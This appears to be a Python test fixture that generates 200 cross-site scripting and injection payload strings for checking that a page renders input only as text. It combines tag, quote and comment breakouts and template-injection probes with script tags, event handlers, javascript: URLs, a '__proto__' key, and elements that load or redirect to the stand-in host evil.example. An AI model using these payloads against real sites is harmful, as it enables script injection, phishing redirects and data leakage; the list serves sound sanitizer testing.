"""Two hundred strings that would run or load something if a page took any of them for more than text."""

from __future__ import annotations

from itertools import product

_WAYS_OUT = (
    *("", "\"'>", "'>", "--><!--", "</script>", "</style></title>", "</textarea></select>", "]]>"),
    *("\u2028", "\u202e{{ 7*7 }}${7*7}"),
)
_DEEDS = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x></svg>",
    "<details open ontoggle=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<iframe src='https://evil.example/'>",
    "<a href='javascript:window.hacked=1' autofocus onfocus=window.hacked=1>x</a>",
    "<input autofocus onfocus=window.hacked=1>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<object data=https://evil.example/x></object>",
    "<math><mtext><img src=https://evil.example/x onerror=window.hacked=1></mtext></math>",
    '" onmouseover=window.hacked=1 style=background:url(https://evil.example/x) x="',
    "javascript:window.hacked=1",
    "\\u003cimg src=x onerror=window.hacked=1\\u003e\\",
    "'-(window.hacked=1)-'",
    "__proto__",
)
PAYLOADS = tuple(way + deed for way, deed in product(_WAYS_OUT, _DEEDS))
